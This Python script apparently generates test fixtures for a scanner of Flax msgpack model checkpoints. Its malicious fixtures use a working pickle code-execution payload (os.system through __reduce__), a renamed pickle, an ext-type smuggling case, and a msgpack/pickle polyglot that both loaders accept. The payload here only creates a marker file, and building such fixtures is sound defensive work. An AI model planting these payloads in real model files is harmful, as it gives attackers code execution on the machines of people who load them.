#!/usr/bin/python3
"""Regenerate the Flax msgpack fixtures of internal/formats/flaxmsgpack.

    /usr/bin/python3 internal/formats/flaxmsgpack/testdata/make_fixtures.py          # write + prove
    /usr/bin/python3 internal/formats/flaxmsgpack/testdata/make_fixtures.py --check  # prove committed

flax is not in Debian, so the files are written the way flax.serialization does it, with Debian's
python3-msgpack (1.0.3) and python3-numpy (1.24); the lines mirrored are those of
google/flax flax/serialization.py:
  * _ndarray_to_bytes: msgpack.packb((arr.shape, arr.dtype.name, arr.tobytes('C')), use_bin_type=True)
  * _MsgpackExtType: ndarray = 1, native_complex = 2, npscalar = 3
  * _msgpack_ext_pack: ndarray -> ExtType(1, ...); numpy scalar -> ExtType(3, _ndarray_to_bytes(np.asarray(x)));
    complex -> ExtType(2, msgpack.packb((x.real, x.imag)))
  * msgpack_serialize: msgpack.packb(pytree, default=_msgpack_ext_pack, strict_types=True), after
    _chunk_array_leaves_in_place ({'__msgpack_chunked_array__': True, 'shape': {...}, 'chunks': {...}})
and they are PROVED with the same decoding as flax.serialization.msgpack_restore:
msgpack.unpackb(data, ext_hook=_msgpack_ext_unpack, raw=False), where _msgpack_ext_unpack and
_ndarray_from_bytes are copied below (np.frombuffer(buffer, dtype=np.dtype(name)).reshape(shape));
jax's bfloat16 is stood in for by numpy's 2-byte '<u2' since jax is not installed.
  * benign    -> restores, and every array has the shape, dtype and values written;
  * ext-type  -> restores: flax returns the unknown code as an inert msgpack.ExtType; the pickle
                 inside runs under pickle.loads (child process) -- what a custom ext_hook would do;
  * object    -> refused: np.frombuffer raises for an object dtype;
  * malformed -> refused;
  * pickles   -> pickle.load (child process, fresh temporary cwd) creates ./marker, and the polyglot
                 ALSO restores as a flax msgpack.
Payloads are harmless: each one only creates ./marker relative to the loader's cwd.
"""

import json
import os
import pickle
import shutil
import subprocess
import sys
import tempfile

import msgpack
import numpy as np

HERE = os.path.dirname(os.path.abspath(__file__))
CMD = "touch marker"


class Reduce:
    def __init__(self, fn, args):
        self.fn, self.args = fn, args

    def __reduce__(self):
        return (self.fn, self.args)


def evil_pickle(protocol=4):
    return pickle.dumps(Reduce(os.system, (CMD,)), protocol=protocol)


# ---- flax/serialization.py, writing side ------------------------------------------------------
def _ndarray_to_bytes(arr, name=None):
    tpl = (arr.shape, name or arr.dtype.name, arr.tobytes("C"))
    return msgpack.packb(tpl, use_bin_type=True)


def _msgpack_ext_pack(x):
    if isinstance(x, np.ndarray):
        return msgpack.ExtType(1, _ndarray_to_bytes(x))
    if isinstance(x, np.generic):
        return msgpack.ExtType(3, _ndarray_to_bytes(np.asarray(x)))
    if isinstance(x, complex):
        return msgpack.ExtType(2, msgpack.packb((x.real, x.imag)))
    return x


def msgpack_serialize(pytree):
    return msgpack.packb(pytree, default=_msgpack_ext_pack, strict_types=True)


def chunk(arr, chunksize):
    """flax's _chunk with a small chunk size (flax uses MAX_CHUNK_SIZE = 2**30 bytes)."""
    flat = arr.reshape(-1)
    chunks = [flat[i:i + chunksize] for i in range(0, flat.size, chunksize)]
    return {"__msgpack_chunked_array__": True,
            "shape": {str(i): d for i, d in enumerate(arr.shape)},
            "chunks": {str(i): c for i, c in enumerate(chunks)}}


# ---- flax/serialization.py, reading side (msgpack_restore) ------------------------------------
def _dtype_from_name(name):
    if name == b"bfloat16":
        return np.dtype("<u2")  # jax.numpy.bfloat16 in flax; same itemsize
    return np.dtype(name)


def _ndarray_from_bytes(data):
    shape, dtype_name, buffer = msgpack.unpackb(data, raw=True)
    return np.frombuffer(buffer, dtype=_dtype_from_name(dtype_name), count=-1, offset=0).reshape(shape, order="C")


def _msgpack_ext_unpack(code, data):
    if code == 1:
        return _ndarray_from_bytes(data)
    elif code == 2:
        t = msgpack.unpackb(data)
        return complex(t[0], t[1])
    elif code == 3:
        return _ndarray_from_bytes(data)[()]
    return msgpack.ExtType(code, data)


def msgpack_restore(data):
    return msgpack.unpackb(data, ext_hook=_msgpack_ext_unpack, raw=False)


# ---- fixtures ---------------------------------------------------------------------------------
def params():
    rng = np.random.default_rng(0)
    return {
        "params": {
            "Dense_0": {"kernel": rng.standard_normal((4, 3)).astype(np.float32),
                        "bias": np.zeros(3, np.float32)},
            "Embed_0": {"embedding": rng.standard_normal((5, 2)).astype(np.float16)},
            "LayerNorm_0": {"scale": np.ones(2, np.float64), "bias": np.zeros(2, np.float64)},
            "counts": np.arange(6, dtype=np.int64).reshape(2, 3),
            "mask": np.array([True, False, True]),
            "quant": np.arange(4, dtype=np.uint8),
            "phase": np.array([1 + 2j, 3 - 1j], dtype=np.complex64),
            "empty": np.zeros((0, 4), np.float32),
        },
        "step": np.int32(7),
        "lr": np.float32(0.5),
        "z": complex(1.0, -2.0),
        "history": [np.arange(2, dtype=np.int16), np.arange(3, dtype=np.int16)],
        "big": chunk(np.arange(10, dtype=np.float32), 4),
    }


def bf16_ext():
    """A bfloat16 array as jax writes it: dtype name 'bfloat16', 2 bytes per element."""
    return msgpack.ExtType(1, _ndarray_to_bytes(np.arange(3, dtype=np.uint16), name="bfloat16"))


def polyglot():
    """A flax msgpack that is also a pickle.  Byte 0 is 0x8a: fixmap of 10 entries for msgpack,
    LONG1 for pickle, whose 1-byte length is byte 1 -- the fixstr header 0xa5 of the first key,
    so pickle skips 165 bytes.  They end inside the first value, a bin8, where the pickle
    opcodes of posix.system('touch marker') sit; msgpack reads them as opaque bytes."""
    key = b"notes"                                   # fixstr 0xa5 -> LONG1 length 165
    payload = evil_pickle(protocol=2)[2:]            # without PROTO: opcodes after LONG1
    start = 2 + 165                                  # first opcode pickle reads after LONG1
    bin_content_at = 2 + len(key) + 2                # 0xc4 <len> then content
    filler = b"\x00" * (start - bin_content_at)
    content = filler + payload
    head = bytes([0x8A, 0xA0 | len(key)]) + key + bytes([0xC4, len(content)]) + content
    rest = {f"layer_{i}": np.full(2, i, np.float32) for i in range(9)}
    body = msgpack.packb(rest, default=_msgpack_ext_pack, strict_types=True)
    assert body[0] == 0x89
    return head + body[1:]


def fixtures():
    good = msgpack_serialize(params())
    F = []

    def add(name, data, expect, desc, fmt=None, **kw):
        e = {"file": name, "expect": expect, "description": desc}
        if fmt:
            e["format"] = fmt
        e.update(kw)
        F.append((name, data, e))

    add("benign/flax_model.msgpack", good, "benign",
        "a flax-style state dict: nested maps of float32/float16/float64/int64/bool/uint8/"
        "complex64/empty arrays (ext 1), numpy scalars (ext 3), a native complex (ext 2), a list "
        "of arrays, and a chunked array (__msgpack_chunked_array__) as flax writes them",
        "flax-msgpack")
    add("benign/bfloat16.msgpack", msgpack.packb({"params": {"w": bf16_ext()}}), "benign",
        "a bfloat16 array (dtype name 'bfloat16', as jax arrays are written)", "flax-msgpack")
    add("malicious/ext-type.msgpack",
        msgpack.packb({"params": {"w": msgpack.ExtType(42, evil_pickle())}}), "malicious",
        "ext code 42 holding a posix.system pickle: flax returns it as an inert ExtType, a custom "
        "ext_hook could unpickle it", "flax-msgpack", min_severity="critical", evidence="touch marker")
    add("malicious/object-dtype.msgpack",
        msgpack.packb({"params": {"w": msgpack.ExtType(1, msgpack.packb(((2,), "object", b"\0" * 16), use_bin_type=True))}}),
        "malicious", "an ndarray ext whose dtype is 'object': np.frombuffer refuses it, but it is "
        "what an object array smuggled into a flax checkpoint looks like", "flax-msgpack",
        min_severity="high")
    add("malicious/flax_model.msgpack", evil_pickle(), "malicious",
        "a protocol-4 posix.system pickle renamed flax_model.msgpack: not msgpack, analysed as a "
        "pickle", "pickle", min_severity="critical", evidence="touch marker", proven=True)
    add("malicious/polyglot-flax_model.msgpack", polyglot(), "malicious",
        "a flax msgpack that is also a pickle: byte 0 (fixmap 10 / LONG1) makes pickle skip into "
        "the first bin value, where posix.system('touch marker') sits; msgpack_restore and "
        "pickle.load both accept it", "flax-msgpack", min_severity="critical",
        evidence="touch marker", proven=True)
    add("malformed/truncated.msgpack", good[: len(good) // 2], "malformed",
        "flax_model.msgpack cut in half: msgpack_restore refuses it", "flax-msgpack")
    add("malformed/trailing.msgpack", good + b"\xc1junk", "malformed",
        "flax_model.msgpack followed by bytes: msgpack.unpackb raises ExtraData", "flax-msgpack")
    return F


def child(code, path):
    d = tempfile.mkdtemp()
    try:
        env = dict(os.environ, HOME=d, TMPDIR=d)
        subprocess.run([sys.executable, "-c", code, path], cwd=d, env=env,
                       stdin=subprocess.DEVNULL, capture_output=True, timeout=60)
        return os.path.exists(os.path.join(d, "marker"))
    finally:
        shutil.rmtree(d)


def restores(path):
    with open(path, "rb") as f:
        data = f.read()
    try:
        return msgpack_restore(data), None
    except Exception as e:  # noqa: BLE001 - any refusal is the proof
        return None, e


def same(a, b):
    if isinstance(b, np.ndarray):
        return isinstance(a, np.ndarray) and a.dtype == b.dtype and a.shape == b.shape and np.array_equal(a, b)
    if isinstance(b, np.generic):
        return isinstance(a, np.generic) and a.dtype == b.dtype and a == b
    if isinstance(b, dict):
        return isinstance(a, dict) and a.keys() == b.keys() and all(same(a[k], b[k]) for k in b)
    if isinstance(b, (list, tuple)):
        return isinstance(a, (list, tuple)) and len(a) == len(b) and all(same(x, y) for x, y in zip(a, b))
    return a == b


PICKLE_LOAD = "import pickle,sys; pickle.load(open(sys.argv[1],'rb'))"


def prove(name, entry):
    path = os.path.join(HERE, name)
    tree, err = restores(path)
    if name == "benign/flax_model.msgpack":
        ok = err is None and same(tree, params())
    elif name == "benign/bfloat16.msgpack":
        ok = err is None and tree["params"]["w"].shape == (3,)
    elif name == "malicious/ext-type.msgpack":
        ext = tree["params"]["w"] if err is None else None
        ok = isinstance(ext, msgpack.ExtType) and ext.code == 42
        with tempfile.NamedTemporaryFile(suffix=".pkl", delete=False) as t:
            t.write(ext.data if ok else b"")
        try:
            ok = ok and child(PICKLE_LOAD, t.name)
        finally:
            os.unlink(t.name)
    elif name == "malicious/object-dtype.msgpack":
        ok = err is not None
    elif name == "malicious/polyglot-flax_model.msgpack":
        ok = err is None and len(tree) == 10 and child(PICKLE_LOAD, path)
    elif entry["expect"] == "malformed":
        ok = err is not None
    else:  # the renamed pickle
        ok = err is not None and child(PICKLE_LOAD, path)
    print(("ok   " if ok else "FAIL ") + name + (f" (refused: {type(err).__name__})" if err else ""))
    return ok


def main():
    check = "--check" in sys.argv
    F = fixtures()
    manifest = [e for _, _, e in sorted(F, key=lambda x: x[0])]
    text = json.dumps(manifest, indent=1) + "\n"
    mpath = os.path.join(HERE, "manifest.json")
    good = True
    if check:
        with open(mpath) as f:
            if f.read() != text:
                print("FAIL manifest.json differs from what this script writes")
                good = False
        for name, data, _ in F:
            with open(os.path.join(HERE, name), "rb") as f:
                if f.read() != data:
                    print("FAIL " + name + " differs from what this script writes")
                    good = False
    else:
        for d in ("benign", "malicious", "malformed"):
            shutil.rmtree(os.path.join(HERE, d), ignore_errors=True)
        for name, data, _ in F:
            os.makedirs(os.path.dirname(os.path.join(HERE, name)), exist_ok=True)
            with open(os.path.join(HERE, name), "wb") as f:
                f.write(data)
        with open(mpath, "w") as f:
            f.write(text)
    for name, _, e in F:
        good = prove(name, e) and good
    sys.exit(0 if good else 1)


if __name__ == "__main__":
    main()
